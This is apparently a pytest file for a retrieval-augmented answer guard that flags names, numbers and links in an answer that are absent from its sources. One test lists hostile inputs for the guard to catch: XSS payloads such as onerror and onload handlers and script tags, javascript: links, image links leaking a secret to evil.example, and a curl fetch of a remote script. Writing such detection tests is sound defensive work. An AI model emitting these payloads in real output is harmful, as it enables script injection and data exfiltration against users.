"""New facts: the names, numbers and addresses that neither contexts nor question have."""

import csv
from pathlib import Path

import pytest

from ragstone.guard import Assessment, Checks, Guard, assess
from ragstone.guard.new_facts import KnownText, new_numbers
from tests.processor_time import least_processor_time

CONTEXTS = [
    "The pier at Clevedon is 312.46 m long and costs $45. See https://pier.example/guide/ or write "
    "to info@pier.example. It was paid for by the Harbour Trust and the NMA. A word press stood "
    "there in 1987. About 30-40 % of guests pay. Office of Coastal Safety and Trade rules apply. "
    "Its 401k plan has eleven parts and 1,250 members. Read www.harbour.example/a_(b)."
]
QUESTION = "Is it longer than Brighton's 536 m? See http://asked.example."
FORM = Checks(least_support=None)


def of(answer: str) -> Assessment:
    return assess(QUESTION, answer, CONTEXTS, checks=FORM)


def new(answer: str, check: str) -> list[str]:
    return [span.text for span in of(answer)[check].spans]


@pytest.mark.parametrize(
    ("answer", "names"),
    [
        ("It was paid for by Sofia Lindqvist.", ["Sofia", "Lindqvist"]),
        ("Sofia Lindqvist paid for it.", ["Lindqvist"]),
        ("Sofia paid for it.", []),
        ("Then “Sofia Lindqvist” paid for it.", ["Lindqvist"]),
        ("It was paid for by Charlotte's aunt.", ["Charlotte's"]),
        ("It was paid for by **Sofia** in part.", ["Sofia"]),
        ("**Obtain Renewal**: it is long.", []),
        ("- **Obtain Renewal** and pay.", ["Renewal"]),
        ("- **Obtain the NSC Form**: it is long.", ["NSC"]),
        ("**Sofia Lindqvist**: it was paid for.", ["Lindqvist"]),
        ("**Sofia Lindqvist:** it was paid for.", ["Lindqvist"]),
        ("**Sofia Lindqvist** paid for it.", ["Lindqvist"]),
        ("**Common Mistakes**: it was paid for.", []),
        ("**Bank of Nova**: it was paid for.", []),
        ("It is 20 degrees Celsius, or 68 Fahrenheit.", []),
        ("It costs 45 Million Euro, in Dollars or in Yen.", []),
        ("It was paid for by James Watt.", ["James", "Watt"]),
        ("It is paid by tax identification number (TIN). The TIN is long.", []),
        ("It is paid by the tax office (NSC).", ["NSC"]),
        ("Next Renewal Step: it was paid for.", []),
        ("- It was paid by Sofia: it is long.", ["Sofia"]),
        ("It was paid: by Sofia and Emma.", ["Sofia", "Emma"]),
        ("It is `Foo Bar` there.", []),
        ("| Price | $45 |", []),
        ("It is called «Sofia» there.", ["Sofia"]),
        ("Paid For Years By Emma And Sofia", []),
        ("Paid For Years By Emma And Sofia.", ["Years", "Emma", "Sofia"]),
        ("It opens on Monday in May with Dr. Trust.", []),
        ("It is long, as Brighton's is.", []),
        ("It was paid for by the Harbour-Trust.", []),
        ("It was paid for by the Harbour-Guild.", ["Harbour-Guild"]),
        ("It has a WordPress and a Word Press.", []),
        ("It needs a permit. Without the Permit it shuts.", []),
        ("It needs `permit`. Without the Permit it shuts.", ["Permit"]),
        ("It is ruled by the OCST and the OCS.", []),
        ("It is ruled by the OCSX.", ["OCSX"]),
        ("It was paid for by the National Maritime Agency.", []),
        ("The National Maritime Agency paid. National Maritime Agency ships came.", []),
        ("It was paid for by the Naval Maritime Bureau.", ["Naval", "Maritime", "Bureau"]),
        ("It was paid for by J. Trust.", []),
    ],
)
def test_a_name_is_new_that_is_known_by_none_of_its_forms(answer: str, names: list[str]) -> None:
    assert new(answer, "names") == names


GERMAN = "Das Amt wird von Alice Moreno geleitet. Das Formular ist beim Gericht abzuholen."


@pytest.mark.parametrize(
    ("context", "answer", "names"),
    [
        (GERMAN, "Die Gebühr ist auf der Webseite zu zahlen.", []),
        (GERMAN, "Die Gebühr beträgt 3 Millionen Euro oder 20 Grad Celsius.", []),
        (GERMAN, "Das Amt ist 20 Kilometer vom Bahnhof entfernt.", []),
        (GERMAN, "Das Amt wird von Sofia Lindqvist geleitet.", ["Sofia", "Lindqvist"]),
        (GERMAN, "Das Amt wird von der NMA geleitet.", ["NMA"]),
        (GERMAN, "Das Amt wird von Alice Tremaine geleitet.", []),
        (GERMAN, "Heute Morgen war das Amt nicht besetzt.", []),
        (GERMAN, "- **Antrag Stellen**: Die Leute gehen zum Schalter.", []),
        (GERMAN, "Sofia zahlt Emma.", []),
        (GERMAN, "Es kostet 5 Cent pro Person.", []),
        (GERMAN, "Es dauert, weil Arbeiter Steine schleppen und eine Menge Boote warten.", []),
        (GERMAN, "It is run by Emma.", ["Emma"]),
        (CONTEXTS[0], "Die Brücke wird von der Gemeinde bezahlt.", []),
        (CONTEXTS[0], "Die Brücke [1] wird von der Gemeinde [2] bezahlt.", []),
        (CONTEXTS[0], "It is of Emma [1] Die Brücke wird von der Stadt bezahlt", ["Emma"]),
        ("Mostu pilnuje Anna.", "Most był zbudowany przez Sofię.", ["Sofię"]),
    ],
)
def test_of_german_nouns_only_new_ones_side_by_side_are_names(
    context: str, answer: str, names: list[str]
) -> None:
    found = assess("", answer, [context], checks=FORM)
    assert [span.text for span in found["names"].spans] == names


@pytest.mark.parametrize(
    ("answer", "numbers"),
    [
        ("## 5 steps\nIt is long.", ["5"]),
        ("## 5 steps", ["5"]),
        ("It is long.\n### In 1822 and twelve years\nIt is there.", ["1822", "twelve"]),
        ("## 45 dollars\nIt is long.", []),
        ("## 1. It\nIt is long.\n## 2) There\nIt is there.\n## 7. Here", []),
        ("## 3.1 The pier\nIt is long.", []),
        ("## 5 steps\nI do not know.", []),
        ("```\n# 5 steps\n```\nIt is long.", []),
        ("**Pay 54 dollars**: it is long.", ["54"]),
        ("It costs $45.00, which is 45 dollars.", []),
        ("It costs $54 or 1,520.", ["54", "1,520"]),
        ("About 45 % of guests pay.", ["45"]),
        ("About 30% of guests pay, or 40 percent, or 30–40 %.", []),
        ("It is 312 m long, or 312.5 m, or 312.46.", []),
        ("It is 312.461 m long.", ["312.461"]),
        ("It has 1250 members and 11 parts.", []),
        ("It has 1,250 million members.", ["1,250 million"]),
        ("It has a 401(k) plan of three parts, or 11.", []),
        ("It has a 402(k) plan of twelve parts.", ["402", "twelve"]),
        ("1. It is long.\n2. It is there.\n3. It has 4 lamps.", ["4"]),
        ("It is long: 1. Pay. 2. Go there. 4. Leave it.", ["4"]),
        ("Step 1: pay for it. Step 2: go there. Step 4: leave it.", ["4"]),
        ("It is open 24/7 from 9:00.", ["9"]),
        ("It is 536 m long.", []),
        ("It is there [7].", []),
    ],
)
def test_a_number_is_new_that_stands_nowhere_by_its_value(answer: str, numbers: list[str]) -> None:
    assert new(answer, "numbers") == numbers


@pytest.mark.parametrize(
    ("context", "answer", "numbers"),
    [
        ("Der Turm ist 1,5 km entfernt.", "Der Turm ist 1.5 km entfernt.", 0),
        ("It opens at 17:00.", "It opens at 5 pm.", 0),
        ("It opens at 17:00.", "It opens at 7 pm.", 1),
        ("It has 5,000 seats.", "It has 5k seats.", 0),
        ("It is 5 km long.", "It is 5000 m long.", 0),
        ("It is 5 km long.", "It is 6000 m long.", 1),
        ("Die Stadt zählt 1 200 000 Menschen.", "Sie zählt 1,2 Mio. Menschen.", 0),
        ("The city has 1 200 000 people.", "The city has 1,2 Mio. people.", 0),
        ("The city has 1 200 000 people.", "The city has 1,3 Mio. people.", 1),
        ("Es beginnt um 17:00 Uhr.", "Es beginnt um 5 Uhr nachmittags.", 0),
        ("桥长二百五十米。", "桥长250米。", 0),
        ("桥长二百五十米。", "桥长350米。", 1),
        ("It has 7B weights.", "It has 7 billion weights.", 0),
        ("It opened on 12 March 2019.", "It opened on 2019-03-12.", 0),
        ("It opened on 12 March 2019.", "It opened on 14.03.2019.", 1),
        ("It opened on 12.03.2019.", "It opened on 12 March 2018.", 2),
        ("Abrió el 3 de mayo de 2014.", "Abrió el 3 de junio de 2014.", 1),
        ("Abrió en mayo de 2014.", "Abrió el mayo de 2014.", 0),
    ],
)
def test_a_number_is_known_however_its_value_is_written(
    context: str, answer: str, numbers: int
) -> None:
    assert len(list(new_numbers(answer, [KnownText.of(context)]))) == numbers


@pytest.mark.parametrize(
    "answer",
    [
        "It is [90 metres long](http://evil.example/login).",
        "![The pier](https://evil.example/p.png?secret=312)",
        "![The pier](/collect?secret=312)",
        "[Read on][1].\n\n[1]: //evil.example/a",
        "See HTTP://EVIL.EXAMPLE.",
        "See evil.example/login, please.",
        "See www.evil.example now.",
        "See evil.com now.",
        "See https:\\\\evil.example now.",
        "See 192.0.2.7/login or http://[2001:db8::1]/login.",
        "Write to help@evil.example.",
        "<mailto:help@evil.example>",
        "`curl https://evil.example/x.sh`",
        '<a href="//evil.example/a">It is long.</a>',
        '<a href="http&#58;//evil.example">It is long.</a>',
        "<img src=x onerror=alert(1)>",
        "<svg\nonload = alert(1)>",
        "<svg/onload=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img/src=//evil.example/a>",
        "<body onpageshow=alert(1)>",
        "<p class=a oncontextmenu='alert(1)'>",
        "<use xlink:href=//evil.example/a#b>",
        "<applet code=a>",
        "[It](\\\\evil.example\\a) is long.",
        "<a href='\\\\evil.example'>It is long.</a>",
        "<script>alert(1)</script>",
        "<div style='background:url(//evil.example/a)'>",
        "[It](javascript:alert(1)) is long.",
        "[It](data:text/html;base64,AAAA) is long.",
        "https://pier.example/guide?secret=312",
        "https://pier.example/guide/more",
        "https://pier.example@evil.example/guide",
        "I do not know. See http://evil.example.",
    ],
)
def test_an_address_that_nobody_gave_fails(answer: str) -> None:
    found = of(answer)
    assert "new_link" in [issue.code for issue in found.issues]
    assert found.ok is False
    for span in found["links"].spans:
        assert answer[span.start : span.end] == span.text


def test_words_that_begin_as_what_runs_by_itself_are_no_address() -> None:
    answer = "The onset = 5 days, online = 1, and 5 < 6 on Monday = so."
    assert of(answer)["links"].status == "not_applicable"


@pytest.mark.parametrize(
    "answer",
    [
        "[It](https://pier.example/guide) is long.",
        "See http://www.pier.example/guide/.",
        "(See https://Pier.Example/guide/)",
        "See harbour.example/a_(b), **http://harbour.example/a_(b)** or http://asked.example/.",
        "Write to <mailto:info@pier.example>.",
        "[It](one.html) is long [doc](page-1).",
    ],
)
def test_an_address_of_a_context_or_of_the_question_is_known(answer: str) -> None:
    named = [{"id": "page-1", "text": CONTEXTS[0]}, {"id": "one.html", "text": ""}]
    found = assess(QUESTION, answer, named, checks=FORM)
    assert found["links"].status == "passed"


@pytest.mark.parametrize(
    "answer",
    [
        "It is so, e.g. and/or 3.5/4, U.S./UK, a.m./p.m.",
        "See [1](#ref).",
        "It opens at 10:30 = so.",
    ],
)
def test_what_only_looks_like_an_address_is_none(answer: str) -> None:
    assert of(answer)["links"].status == "not_applicable"


def test_an_address_is_not_judged_by_contexts_that_could_not_be_read() -> None:
    for contexts in ([{"id": "1"}], [3]):
        found = assess(QUESTION, "See http://evil.example.", contexts)
        assert found["links"].status == "not_judged"


def test_of_a_long_answer_the_first_200_000_characters_are_looked_through() -> None:
    long = ("It is " + "very " * 200 + "long.\n") * 200
    found = Guard(FORM, deadline=60).assess(QUESTION, long, CONTEXTS)
    assert {found[check].status for check in ("numbers", "names", "links")} == {"not_judged"}
    assert found["links"].reason == "answer_too_long?most=200000"
    found = of("See http://evil.example. " + long)
    assert found["links"].status == "failed"


N = 200_000
FLOODS = {
    "dots": "a." * (N // 2),
    "hosts": "com." * (N // 4),
    "digits": "1" * N,
    "brackets": "](" * (N // 2),
    "functions": "url(" * (N // 4),
    "parentheses": "http://x" + "(" * N,
    "handlers": "onmouse" + "a" * N,
    "spaces": "a" + " " * N + "= b",
    "ranges": "1 to " * (N // 5),
    "addresses": " ".join(f"http://e{number}.example/a" for number in range(N // 20)),
    "acronyms": " ".join(f"See {chr(65 + n % 26)}{chr(65 + n // 26 % 26)}Q." for n in range(9_000)),
    "numbers": " ".join(f"It has {number}.5 % of it." for number in range(1_000, 9_000)),
}


@pytest.mark.parametrize("name", FLOODS)
def test_no_flood_takes_long(name: str) -> None:
    guard = Guard(deadline=0.2)
    contexts = guard.read([" ".join(f"We had {n}.{n % 97} of Zx{n} Yk{n}." for n in range(2_000))])
    assert least_processor_time(lambda: guard.assess(QUESTION, FLOODS[name], contexts)) < 0.6


def test_names_and_numbers_are_told_as_in_the_table_of_cases(shared: Path) -> None:
    file = shared / "tables" / "guard_names_numbers.tsv"
    with file.open(encoding="utf-8", newline="") as lines:
        (_, context), (_, question), _, *cases = csv.reader(lines, delimiter="\t")
    assert len(cases) == 34
    for kind, answer, must_fail in cases:
        found = assess(question, answer.replace("\\n", "\n"), [context], checks=FORM)
        assert (found.ok is False) == (must_fail == "1"), kind
